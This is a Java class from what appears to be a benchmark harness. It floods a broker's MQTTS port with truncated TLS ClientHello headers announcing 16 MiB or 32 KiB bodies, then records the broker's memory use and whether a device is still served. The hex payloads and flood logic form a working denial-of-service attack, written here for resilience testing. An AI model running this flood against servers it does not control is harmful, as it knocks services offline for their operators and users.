package io.guardbee.bench.attack;

import io.guardbee.bench.attack.AttackBench.Plan;
import java.net.InetAddress;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;

/**
 * Connections that send ten octets: the header of a TLS record and that of a ClientHello (RFC 8446
 * §4: its length has 24 bits). Half announce 16 MiB: a server that makes room for what is announced
 * pays that for each (CVE-2026-45416, CVE-2026-75596). Half announce 32 KiB, which a server has to
 * wait for.
 */
record TlsHelloAttack(Target target, Plan plan) {

  /** Whole handshake records of five octets; they begin a ClientHello of 16,777,215 and 32,768. */
  private static final List<byte[]> ANNOUNCEMENTS =
      Stream.of("160301000501ffffff03", "16030100050100800003")
          .map(HexFormat.of()::parseHex)
          .toList();

  List<AttackFigure> run() throws Exception {
    ProcessMemory memory = new ProcessMemory(target.broker());
    Client device = target.device();
    List<AttackFigure> figures = new ArrayList<>();
    device.run(plan.seconds()); // compilers are done before anything is measured
    figures.addAll(device.run(plan.seconds()).figures("quiet", "quiet, " + device.name()));
    figures.add(
        AttackFigure.of("memory.before", memory.now(), "MiB resident in the broker before"));
    attack("same", List.of(Addresses.OWN), figures);
    attack("others", Addresses.OTHERS, figures);
    figures.add(AttackFigure.of("memory.after", memory.now(), "MiB resident in the broker after"));
    figures.add(AttackFigure.of("memory.peak", memory.peak(), "MiB resident at most"));
    return figures;
  }

  private void attack(String name, List<InetAddress> from, List<AttackFigure> figures)
      throws Exception {
    Client device = target.device();
    AtomicInteger turn = new AtomicInteger();
    Flood.Opening opening =
        plain -> {
          int now = turn.getAndIncrement() % ANNOUNCEMENTS.size();
          plain.getOutputStream().write(ANNOUNCEMENTS.get(now));
          return plain;
        };
    try (Flood flood =
        Flood.start(new Flood.Plan(target.mqtts(), from, opening), plan.connections())) {
      Client.Noticed noticed = device.run(plan.seconds());
      String where =
          name.equals("same") ? "attacked from its own address" : "attacked from 4 others";
      figures.addAll(flood.figures(name, where));
      figures.addAll(noticed.figures(name, where + ", " + device.name()));
      AttackBench.requireServed(where, List.of(noticed), target);
    }
  }
}
